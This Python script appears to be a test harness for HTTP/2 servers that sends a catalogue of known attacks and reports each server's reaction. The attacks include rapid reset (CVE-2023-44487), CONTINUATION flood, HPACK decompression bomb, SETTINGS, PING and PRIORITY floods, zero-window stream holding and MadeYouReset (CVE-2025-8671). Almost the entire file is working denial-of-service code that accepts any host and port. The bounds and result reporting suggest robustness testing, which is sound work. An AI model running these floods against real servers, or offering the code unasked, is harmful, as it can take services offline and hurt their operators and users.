#!/usr/bin/python3
"""A hostile HTTP/2 client: one subcommand per known attack on h2 servers.

Runs with Debian's python3 and its python3-h2 family (hpack for header
blocks; frames are built by hand, since the attacks are exactly the frames
a correct library refuses to send). Every attack is bounded in frames and
in time (--duration for the attack, --linger for watching the server after
it), then prints one line that says what the server did:

  h2_hostile attack=NAME sent_frames=N sent_bytes=N send_blocked=0|1
      goaway=0|1 goaway_code=NAME goaway_last_stream=N goaway_ms=N
      goaway_debug=TEXT rst=N rst_codes=CODE:N,... responses=N
      statuses=200:N,... data_bytes=N ping_acks=N settings_acks=N
      window_updates=N closed=0|1 close_kind=eof|reset|none closed_ms=N
      ended_ms=N peer_max_streams=N frames_before_end=N extra...

goaway_ms, closed_ms: from the connection's start; ended_ms: the first of
the two (or -1 when the server neither sent GOAWAY nor closed within
--linger). frames_before_end: frames this client had sent when the server
sent GOAWAY or closed (all of them when it did neither). Exit status 0
when the attack ran (whatever the server did), 2 when the connection or
the TLS handshake failed, 3 when ALPN did not choose h2.

  h2_hostile.py [common] get --path P [--sha256 HEX] [--expect-status N]
      a well-behaved GET on a fresh connection (result: status, body bytes,
      sha256; exit 1 when --expect-status / --sha256 do not match)
  rapid-reset     --count N: HEADERS (END_STREAM) then RST_STREAM(CANCEL)
                  at once, N streams (CVE-2023-44487)
  continuation    --count N: HEADERS without END_HEADERS, then N
                  CONTINUATION frames of --frame-size bytes, never ending
                  the header block (the 2024 CONTINUATION flood)
  hpack-bomb      a --entry-size byte header inserted into the dynamic
                  table, then referenced --refs times (one byte each) in one
                  header block, on --count streams: the decompressed size
                  is refs x entry, far over any max-header-list
  settings-flood  --count N SETTINGS frames, not reading (nor ACKing)
                  until the end, with a small receive buffer
  ping-flood      --count N PING frames, not reading the ACKs until the end
  priority-flood  --count N PRIORITY frames over --streams idle stream ids
                  (reprioritising them in a ring)
  zero-window     SETTINGS_INITIAL_WINDOW_SIZE=0, then --count GETs of
                  --path (a large response), holding the connection
                  --hold s without a WINDOW_UPDATE (reports the DATA bytes
                  the server sent anyway, and when it gave up on us);
                  --keepalive S: a PING every S s meanwhile, so that the
                  connection is never idle
  stream-ids      --mode backwards (stream 5 then 3), even (an even id from
                  the client), reuse (a closed id again), max (the last id
                  2^31-1, then one more stream, which can only go back);
                  increasing (not an attack: --count GETs on random odd
                  ids going up with gaps, in bursts, PRIORITY frames on
                  idle ids ahead of them; --seed): all must be answered
  made-you-reset  --count N streams, at most --concurrent open: HEADERS
                  (END_STREAM) then WINDOW_UPDATE(stream, 2^31-1), which
                  overflows the stream's send window: the server must reset
                  the stream itself (FLOW_CONTROL_ERROR), a stream slot
                  freed while, unless the server stops it, the request runs
                  on at the origin (CVE-2025-8671). --split-ms M: the
                  WINDOW_UPDATEs go M ms after their HEADERS (the request
                  has reached the origin by then), not in the same write;
                  reports its local port (local_port=, which proxyd's log
                  lines name)
  bad-length      a POST with content-length: --length, whose DATA say
                  otherwise (--mode short: 5 bytes fewer, long: 5 more),
                  END_STREAM on the last; --split-ms M: the DATA M ms
                  after the HEADERS. The server must reset the stream
                  (RST_STREAM PROTOCOL_ERROR, RFC 9113 8.1.1)
  too-many-streams  reads the server's SETTINGS_MAX_CONCURRENT_STREAMS (M),
                  sets its own initial window to 0 so no stream can finish,
                  opens M + --extra streams and reports the RST_STREAMs
"""
import argparse
import hashlib
import os
import random
import select
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS",
               "PUSH_PROMISE", "PING", "GOAWAY", "WINDOW_UPDATE",
               "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED, PRIO_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20

S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, \
    S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)

ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
               3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT",
               5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
               7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
               10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
               12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}
CANCEL = 8


def err_name(code):
    return ERROR_NAMES.get(code, "0x%x" % code)


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings_frame(pairs, ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in pairs))


class Conn:
    """One h2 connection: raw socket (TLS with ALPN h2 when asked), the
    frames sent, and everything the server answered, parsed as it comes."""

    def __init__(self, args, rcvbuf=None):
        self.args = args
        self.t0 = time.monotonic()
        self.sent_frames = 0
        self.sent_bytes = 0
        self.send_blocked = 0
        self.rbuf = b""
        self.closed = False
        self.close_kind = "none"
        self.closed_ms = -1
        self.goaway = None          # (last_stream, code, debug, ms)
        self.goaways = 0
        self.rst = {}               # code -> count
        self.rst_streams = set()
        self.statuses = {}          # status -> count
        self.responses = 0
        self.data_bytes = 0
        self.data_by_stream = {}
        self.body = {}              # stream -> bytearray (only with keep_body)
        self.keep_body = False
        self.ended_streams = set()
        self.ping_acks = 0
        self.settings_acks = 0
        self.settings_rx = 0
        self.window_updates = 0
        self.peer_settings = {}
        self.frames_at_end = None
        self.auto_ack = True
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.decoder.max_allowed_table_size = 1 << 16
        self.hdr_block = None       # (stream, bytes) while CONTINUATIONs follow
        self.decode_failed = 0
        s = socket.create_connection((args.host, args.port), timeout=5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if args.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            if args.cafile:
                ctx.load_verify_locations(args.cafile)
            else:
                ctx.check_hostname = False
                ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            try:
                s = ctx.wrap_socket(s, server_hostname=args.sni or None)
            except (ssl.SSLError, OSError) as e:
                print("h2_hostile attack=%s error=tls:%s" % (args.cmd, str(e).replace(" ", "_")))
                sys.exit(2)
            if s.selected_alpn_protocol() != "h2":
                print("h2_hostile attack=%s error=alpn:%s" % (args.cmd, s.selected_alpn_protocol()))
                sys.exit(3)
        s.settimeout(args.send_timeout)
        self.s = s

    def ms(self):
        return int((time.monotonic() - self.t0) * 1000)

    def ended(self):
        return self.closed or self.goaway is not None

    # ------------------------------------------------------------ sending

    def send(self, data, nframes=1):
        """Sends whole frames; False once the server closed, or stopped
        reading for --send-timeout s (send_blocked)."""
        if self.closed:
            return False
        try:
            self.s.sendall(data)
        except socket.timeout:
            self.send_blocked = 1
            return False
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.mark_closed("reset")
            return False
        self.sent_frames += nframes
        self.sent_bytes += len(data)
        return True

    def start(self, settings=()):
        return self.send(PREFACE + settings_frame(list(settings)), 1)

    # ------------------------------------------------------------ receiving

    def mark_closed(self, kind):
        if not self.closed:
            self.closed = True
            self.close_kind = kind
            self.closed_ms = self.ms()
            if self.frames_at_end is None:
                self.frames_at_end = self.sent_frames

    def grow_rcvbuf(self):
        """After a flood sent with a small receive buffer (so the server
        had to hold its answers itself), reading them back at speed."""
        try:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        except OSError:
            pass

    def readable(self, timeout):
        if isinstance(self.s, ssl.SSLSocket) and self.s.pending():
            return True
        try:
            r, _, _ = select.select([self.s], [], [], timeout)
        except (OSError, ValueError):
            return False
        return bool(r)

    def poll(self, timeout=0.0, budget=0.2):
        """Reads what is there (waiting up to timeout s for the first
        bytes), for at most budget s: a server that never stops sending
        cannot hold the attack's loop."""
        waited = False
        end = time.monotonic() + timeout + budget
        while not self.closed and time.monotonic() < end:
            if not self.readable(0 if waited else timeout):
                return
            waited = True
            try:
                chunk = self.s.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
                return
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.mark_closed("reset")
                return
            if not chunk:
                self.mark_closed("eof")
                return
            self.rbuf += chunk
            self.parse()

    def wait(self, seconds, until=None):
        """Reads for up to seconds, or until the server ended the
        connection, or until until() holds."""
        self.grow_rcvbuf()
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            if until and until():
                return
            left = max(0.0, deadline - time.monotonic())
            self.poll(min(0.05, left), budget=min(0.2, left))

    def parse(self):
        buf, pos = self.rbuf, 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            self.on_frame(ftype, flags, sid, buf[pos + 9:pos + 9 + length])
            pos += 9 + length
        self.rbuf = buf[pos:]

    def on_frame(self, ftype, flags, sid, body):
        if self.args.verbose:
            name = FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else str(ftype)
            sys.stderr.write("%6d ms <- %s flags=0x%x stream=%d len=%d\n"
                             % (self.ms(), name, flags, sid, len(body)))
        if ftype == GOAWAY and len(body) >= 8:
            last, code = struct.unpack(">II", body[:8])
            self.goaways += 1
            if self.goaway is None:
                self.goaway = (last & 0x7FFFFFFF, code,
                               body[8:72].decode("latin1"), self.ms())
                if self.frames_at_end is None:
                    self.frames_at_end = self.sent_frames
        elif ftype == RST_STREAM and len(body) >= 4:
            code = struct.unpack(">I", body[:4])[0]
            self.rst[code] = self.rst.get(code, 0) + 1
            self.rst_streams.add(sid)
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.settings_rx += 1
                for i in range(0, len(body) - 5, 6):
                    k, v = struct.unpack(">HI", body[i:i + 6])
                    self.peer_settings[k] = v
                if self.auto_ack:
                    self.send(settings_frame([], ack=True))
        elif ftype == PING and flags & ACK:
            self.ping_acks += 1
        elif ftype == WINDOW_UPDATE:
            self.window_updates += 1
        elif ftype == DATA:
            pad = body[0] if flags & PADDED and body else 0
            n = len(body) - (1 + pad if flags & PADDED else 0)
            self.data_bytes += n
            self.data_by_stream[sid] = self.data_by_stream.get(sid, 0) + n
            if self.keep_body:
                self.body.setdefault(sid, bytearray()).extend(body[(1 if flags & PADDED else 0):][:n])
            if flags & END_STREAM:
                self.ended_streams.add(sid)
        elif ftype == HEADERS:
            frag = body
            if flags & PADDED and frag:
                frag = frag[1:len(frag) - frag[0]]
            if flags & PRIO_FLAG:
                frag = frag[5:]
            if flags & END_STREAM:
                self.ended_streams.add(sid)
            if flags & END_HEADERS:
                self.on_header_block(sid, frag)
            else:
                self.hdr_block = (sid, frag)
        elif ftype == CONTINUATION and self.hdr_block:
            sid0, frag = self.hdr_block
            frag += body
            if flags & END_HEADERS:
                self.hdr_block = None
                self.on_header_block(sid0, frag)
            else:
                self.hdr_block = (sid0, frag)

    def on_header_block(self, sid, block):
        try:
            headers = self.decoder.decode(block, raw=True)
        except Exception:   # noqa: BLE001 (any hpack failure is only counted)
            self.decode_failed += 1
            return
        for name, value in headers:
            if name == b":status":
                self.responses += 1
                st = value.decode()
                self.statuses[st] = self.statuses.get(st, 0) + 1

    # ------------------------------------------------------------ the result

    def result(self, **extra):
        g = self.goaway
        ends = [t for t in (g[3] if g else -1, self.closed_ms) if t >= 0]
        fields = [
            ("attack", self.args.cmd),
            ("sent_frames", self.sent_frames),
            ("sent_bytes", self.sent_bytes),
            ("send_blocked", self.send_blocked),
            ("goaway", 1 if g else 0),
            ("goaway_code", err_name(g[1]) if g else "-"),
            ("goaway_last_stream", g[0] if g else -1),
            ("goaway_ms", g[3] if g else -1),
            ("goaway_debug", (g[2].replace(" ", "_") or "-") if g else "-"),
            ("rst", sum(self.rst.values())),
            ("rst_codes", ",".join("%s:%d" % (err_name(k), v) for k, v in sorted(self.rst.items())) or "-"),
            ("responses", self.responses),
            ("statuses", ",".join("%s:%d" % kv for kv in sorted(self.statuses.items())) or "-"),
            ("data_bytes", self.data_bytes),
            ("ping_acks", self.ping_acks),
            ("settings_acks", self.settings_acks),
            ("window_updates", self.window_updates),
            ("closed", 1 if self.closed else 0),
            ("close_kind", self.close_kind),
            ("closed_ms", self.closed_ms),
            ("ended_ms", min(ends) if ends else -1),
            ("peer_max_streams", self.peer_settings.get(S_MAX_CONCURRENT_STREAMS, -1)),
            ("frames_before_end", self.frames_at_end if self.frames_at_end is not None else self.sent_frames),
        ] + list(extra.items())
        print("h2_hostile " + " ".join("%s=%s" % kv for kv in fields), flush=True)

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


# ------------------------------------------------------------ header blocks

def request_block(enc, args, path=None, method="GET", extra=()):
    return enc.encode([(":method", method), (":scheme", "https" if args.tls else "http"),
                       (":authority", args.authority or "%s:%d" % (args.host, args.port)),
                       (":path", path or args.path), ("user-agent", "h2_hostile")] + list(extra))


def headers_frame(sid, block, end_stream=True, end_headers=True):
    return frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0),
                 sid, block)


def bounded(args):
    """True while the attack may go on (its --duration)."""
    return time.monotonic() < args._deadline


# ------------------------------------------------------------ the attacks

def cmd_get(args):
    c = Conn(args)
    c.keep_body = True
    c.start([(S_INITIAL_WINDOW_SIZE, 0x7FFFFFFF)])
    enc = hpack.Encoder()
    c.send(headers_frame(1, request_block(enc, args)))
    # a window big enough for the file: the connection's and the stream's
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
    c.wait(args.linger, until=lambda: 1 in c.ended_streams or 1 in c.rst_streams)
    body = bytes(c.body.get(1, b""))
    sha = hashlib.sha256(body).hexdigest()
    status = ",".join(c.statuses) or "-"
    c.result(status=status, body_bytes=len(body), sha256=sha,
             complete=1 if 1 in c.ended_streams else 0)
    ok = (args.expect_status is None or status == str(args.expect_status)) and \
        (args.sha256 is None or sha == args.sha256)
    c.close()
    return 0 if ok else 1


def cmd_rapid_reset(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()
    sid, n = 1, 0
    while n < args.count and bounded(args) and not c.ended():
        batch = []
        for _ in range(min(args.batch, args.count - n)):
            batch.append(headers_frame(sid, request_block(enc, args)))
            batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            sid += 2
            n += 1
        if not c.send(b"".join(batch), len(batch)):
            break
        c.poll()
    c.wait(args.linger, until=c.ended)
    c.result(streams=n)
    c.close()


def cmd_continuation(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()
    c.send(headers_frame(1, request_block(enc, args), end_stream=True, end_headers=False))
    n = 0
    while n < args.count and bounded(args) and not c.ended():
        batch = []
        for _ in range(min(args.batch, args.count - n)):
            # one whole literal field (not indexed) per frame: every frame
            # alone is valid HPACK, so only the endlessness is wrong
            name = b"x-flood-%d" % n
            value = b"v" * max(1, args.frame_size - len(name) - 8)
            field = b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
            batch.append(frame(CONTINUATION, 0, 1, field))
            n += 1
        if not c.send(b"".join(batch), len(batch)):
            break
        c.poll()
    c.wait(args.linger, until=c.ended)
    c.result(continuations=n, header_bytes_sent=c.sent_bytes)
    c.close()


def hpack_int(value, prefix_bits, first=0):
    """HPACK integer with an N-bit prefix; first: the bits above it."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def cmd_hpack_bomb(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    # the entry: literal with incremental indexing, new name (0x40 prefix);
    # it lands at dynamic index 62, after the request's own fields which are
    # sent as literals without indexing so they take no table room
    name = b"x-bomb"
    value = b"b" * (args.entry_size - len(name) - 32)
    entry = b"\x40" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
    plain = b""
    for k, v in ((b":method", b"GET"), (b":scheme", b"https" if args.tls else b"http"),
                 (b":authority", (args.authority or "%s:%d" % (args.host, args.port)).encode()),
                 (b":path", args.path.encode())):
        plain += b"\x00" + hpack_int(len(k), 7) + k + hpack_int(len(v), 7) + v
    ref = hpack_int(62, 7, 0x80)
    max_frame = 16384
    decompressed = 0
    streams = 0
    sid = 1
    for i in range(args.count):
        if not bounded(args) or c.ended():
            break
        block = plain + (entry if i == 0 else ref) + ref * args.refs
        decompressed = (args.refs + 1) * args.entry_size
        frames = [block[j:j + max_frame] for j in range(0, len(block), max_frame)]
        data = b""
        for j, frag in enumerate(frames):
            last = j == len(frames) - 1
            if j == 0:
                data += frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), sid, frag)
            else:
                data += frame(CONTINUATION, END_HEADERS if last else 0, sid, frag)
        if not c.send(data, len(frames)):
            break
        streams += 1
        sid += 2
        c.poll(0.05)
    c.wait(args.linger, until=lambda: c.ended() or len(c.rst_streams) + c.responses >= streams)
    c.result(streams=streams, block_bytes=len(plain) + len(ref) * (args.refs + 1),
             decompressed_per_block=decompressed)
    c.close()


def cmd_settings_flood(args):
    c = Conn(args, rcvbuf=4096)
    c.auto_ack = False
    c.start()
    n = 0
    while n < args.count and bounded(args):
        batch = [settings_frame([(S_INITIAL_WINDOW_SIZE, 65535 + (n + i) % 2),
                                 (S_MAX_CONCURRENT_STREAMS, 100)])
                 for i in range(min(args.batch, args.count - n))]
        if not c.send(b"".join(batch), len(batch)):
            break
        n += len(batch)
    c.wait(args.linger, until=lambda: c.ended() or c.settings_acks >= n)
    c.result(settings_sent=n)
    c.close()


def cmd_ping_flood(args):
    c = Conn(args, rcvbuf=4096)
    c.start()
    n = 0
    while n < args.count and bounded(args):
        batch = [frame(PING, 0, 0, struct.pack(">Q", n + i))
                 for i in range(min(args.batch, args.count - n))]
        if not c.send(b"".join(batch), len(batch)):
            break
        n += len(batch)
    c.wait(args.linger, until=lambda: c.ended() or c.ping_acks >= n)
    c.result(pings_sent=n)
    c.close()


def cmd_priority_flood(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    n = 0
    while n < args.count and bounded(args) and not c.ended():
        batch = []
        for _ in range(min(args.batch, args.count - n)):
            # idle streams 1, 3, ... each made to depend on the next: the
            # server's priority tree is rebuilt on every frame
            sid = 1 + 2 * (n % args.streams)
            dep = 1 + 2 * ((n + 1) % args.streams)
            batch.append(frame(PRIORITY, 0, sid, struct.pack(">IB", dep | (0x80000000 if n & 1 else 0), n & 0xFF)))
            n += 1
        if not c.send(b"".join(batch), len(batch)):
            break
        c.poll()
    # a request after the flood: a server that took it still answers
    enc = hpack.Encoder()
    sid = 1 + 2 * args.streams
    if not c.ended():
        c.send(headers_frame(sid, request_block(enc, args)))
    c.wait(args.linger, until=lambda: c.ended() or sid in c.ended_streams or sid in c.rst_streams)
    c.result(priorities_sent=n, after_request_answered=1 if c.responses else 0)
    c.close()


def cmd_zero_window(args):
    c = Conn(args)
    c.start([(S_INITIAL_WINDOW_SIZE, 0)])
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()
    opened = 0
    for i in range(args.count):
        if not c.send(headers_frame(1 + 2 * i, request_block(enc, args))):
            break
        opened += 1
    # --keepalive S: a PING every S s, so the connection is never idle
    # (an idle timer alone does not end the hold)
    end = time.monotonic() + args.hold
    pings = 0
    while not c.ended() and time.monotonic() < end:
        step = min(args.keepalive or args.hold, end - time.monotonic())
        c.wait(max(0.0, step), until=c.ended)
        if args.keepalive and not c.ended() and time.monotonic() < end:
            c.send(frame(PING, 0, 0, struct.pack(">Q", pings)))
            pings += 1
    c.result(streams=opened, held_ms=c.ms(), keepalive_pings=pings)
    c.close()


def increasing_ids(c, args, get, answered):
    rng = random.Random(args.seed)
    # a well-behaved reader: the connection's window wide open (else
    # after 64 KB of responses the streams are held, as in zero-window)
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 30))))
    sid = -1
    sent = 0
    while sent < args.count and bounded(args) and not c.ended():
        burst = []
        for _ in range(min(rng.randint(1, 4), args.count - sent)):
            sid += 2 * rng.randint(1, 4)    # odd, up, gaps of 0..3 ids
            burst.append(sid)
        for ahead in range(rng.randint(0, 2)):
            # PRIORITY on an idle id past the burst: legal, and the id
            # may be used later
            c.send(frame(PRIORITY, 0, sid + 2 * (ahead + 1), struct.pack(">IB", 0, 15)))
        for s in burst:
            get(s)
        sent += len(burst)
        c.wait(args.linger, until=answered(burst[-1]))
        c.wait(args.linger, until=lambda: all(answered(s)() for s in burst))


def cmd_stream_ids(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()

    def get(sid):
        c.send(headers_frame(sid, request_block(enc, args)))

    def answered(sid):
        return lambda: c.ended() or sid in c.ended_streams or sid in c.rst_streams

    if args.mode == "backwards":
        get(5)
        c.wait(args.linger, until=answered(5))
        get(3)
    elif args.mode == "even":
        get(2)
    elif args.mode == "reuse":
        get(1)
        c.wait(args.linger, until=answered(1))
        get(1)
    elif args.mode == "max":
        get(0x7FFFFFFF)
        c.wait(args.linger, until=answered(0x7FFFFFFF))
        get(1)
    elif args.mode == "increasing":
        increasing_ids(c, args, get, answered)
        c.result(mode=args.mode)
        c.close()
        return
    c.wait(args.linger, until=c.ended)
    c.result(mode=args.mode)
    c.close()


def cmd_made_you_reset(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()
    overflow = struct.pack(">I", 0x7FFFFFFF)
    sid, n = 1, 0
    while n < args.count and bounded(args) and not c.ended():
        ids = list(range(sid, sid + 2 * min(args.concurrent, args.count - n), 2))
        heads = [headers_frame(i, request_block(enc, args)) for i in ids]
        wus = [frame(WINDOW_UPDATE, 0, i, overflow) for i in ids]
        if args.split_ms:
            if not c.send(b"".join(heads), len(heads)):
                break
            c.wait(args.split_ms / 1000.0, until=c.ended)
            if not c.send(b"".join(wus), len(wus)):
                break
        elif not c.send(b"".join(h + w for h, w in zip(heads, wus)), 2 * len(ids)):
            break
        sid += 2 * len(ids)
        n += len(ids)
        # the next batch once these are all closed (reset, or answered),
        # so that no more than --concurrent are ever open
        c.wait(2.0, until=lambda: c.ended() or all(
            i in c.rst_streams or i in c.ended_streams for i in ids))
    c.wait(args.linger, until=c.ended)
    try:
        port = c.s.getsockname()[1]
    except OSError:
        port = -1
    c.result(streams=n, local_port=port)
    c.close()


def cmd_bad_length(args):
    c = Conn(args)
    c.start()
    c.wait(0.2, until=lambda: c.settings_rx > 0)
    enc = hpack.Encoder()
    c.send(headers_frame(1, request_block(enc, args, method="POST",
                                          extra=[("content-length", str(args.length))]),
                         end_stream=False))
    if args.split_ms:
        c.wait(args.split_ms / 1000.0, until=c.ended)
    n = args.length - 5 if args.mode == "short" else args.length + 5
    c.send(frame(DATA, END_STREAM, 1, b"x" * n))
    c.wait(args.linger, until=lambda: c.ended() or 1 in c.rst_streams or 1 in c.ended_streams)
    c.result(mode=args.mode, local_port=c.s.getsockname()[1])
    c.close()


def cmd_too_many_streams(args):
    c = Conn(args)
    c.start([(S_INITIAL_WINDOW_SIZE, 0)])
    c.wait(1.0, until=lambda: c.settings_rx > 0)
    m = c.peer_settings.get(S_MAX_CONCURRENT_STREAMS, args.assume_max)
    enc = hpack.Encoder()
    total = min(m + args.extra, args.count)
    sent = 0
    batch = []
    for i in range(total):
        batch.append(headers_frame(1 + 2 * i, request_block(enc, args)))
    for j in range(0, len(batch), args.batch):
        part = batch[j:j + args.batch]
        if not c.send(b"".join(part), len(part)):
            break
        sent += len(part)
        c.poll()
    c.wait(args.linger, until=lambda: c.ended() or len(c.rst_streams) >= sent - m)
    over = sum(1 for sid in c.rst_streams if sid > 2 * m - 1)
    c.result(max_streams=m, streams=sent, rst_over_max=over,
             responses_over_max=max(0, c.responses - m))
    c.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (else h2c prior knowledge)")
    ap.add_argument("--sni", default="")
    ap.add_argument("--cafile", default="", help="verify the server (else no verification)")
    ap.add_argument("--authority", default="")
    ap.add_argument("--path", default="/")
    ap.add_argument("--duration", type=float, default=10.0, help="bound of the attack phase, s")
    ap.add_argument("--linger", type=float, default=5.0, help="how long to watch the server after, s")
    ap.add_argument("--send-timeout", type=float, default=3.0,
                    help="a send blocked that long means the server stopped reading")
    ap.add_argument("--batch", type=int, default=100, help="frames per write")
    ap.add_argument("-v", "--verbose", action="store_true", help="every frame received on stderr")
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("get")
    p.add_argument("--sha256")
    p.add_argument("--expect-status", type=int)
    p = sub.add_parser("rapid-reset")
    p.add_argument("--count", type=int, default=10000)
    p = sub.add_parser("continuation")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--frame-size", type=int, default=1000)
    p = sub.add_parser("hpack-bomb")
    p.add_argument("--count", type=int, default=20)
    p.add_argument("--refs", type=int, default=16000)
    p.add_argument("--entry-size", type=int, default=4000)
    p = sub.add_parser("settings-flood")
    p.add_argument("--count", type=int, default=500000)
    p = sub.add_parser("ping-flood")
    p.add_argument("--count", type=int, default=500000)
    p = sub.add_parser("priority-flood")
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--streams", type=int, default=100)
    p = sub.add_parser("zero-window")
    p.add_argument("--count", type=int, default=50)
    p.add_argument("--hold", type=float, default=10.0)
    p.add_argument("--keepalive", type=float, default=0.0, help="a PING every S s while holding")
    p = sub.add_parser("stream-ids")
    p.add_argument("--mode", choices=["backwards", "even", "reuse", "max", "increasing"], required=True)
    p.add_argument("--count", type=int, default=40)
    p.add_argument("--seed", type=int, default=1)
    p = sub.add_parser("made-you-reset")
    p.add_argument("--count", type=int, default=5000)
    p.add_argument("--concurrent", type=int, default=50)
    p.add_argument("--split-ms", type=float, default=0.0,
                   help="WINDOW_UPDATEs this long after their HEADERS")
    p = sub.add_parser("bad-length")
    p.add_argument("--mode", choices=["short", "long"], required=True)
    p.add_argument("--length", type=int, default=100)
    p.add_argument("--split-ms", type=float, default=0.0)
    p = sub.add_parser("too-many-streams")
    p.add_argument("--extra", type=int, default=50)
    p.add_argument("--count", type=int, default=2000, help="bound on streams opened")
    p.add_argument("--assume-max", type=int, default=100, help="when the server advertises no maximum")
    args = ap.parse_args()
    args._deadline = time.monotonic() + args.duration
    fn = {"get": cmd_get, "rapid-reset": cmd_rapid_reset, "continuation": cmd_continuation,
          "hpack-bomb": cmd_hpack_bomb, "settings-flood": cmd_settings_flood,
          "ping-flood": cmd_ping_flood, "priority-flood": cmd_priority_flood,
          "zero-window": cmd_zero_window, "stream-ids": cmd_stream_ids,
          "made-you-reset": cmd_made_you_reset, "bad-length": cmd_bad_length,
          "too-many-streams": cmd_too_many_streams}[args.cmd]
    try:
        rc = fn(args)
    except (ConnectionRefusedError, socket.timeout) as e:
        print("h2_hostile attack=%s error=connect:%s" % (args.cmd, str(e).replace(" ", "_")))
        return 2
    return rc or 0


if __name__ == "__main__":
    sys.exit(main())
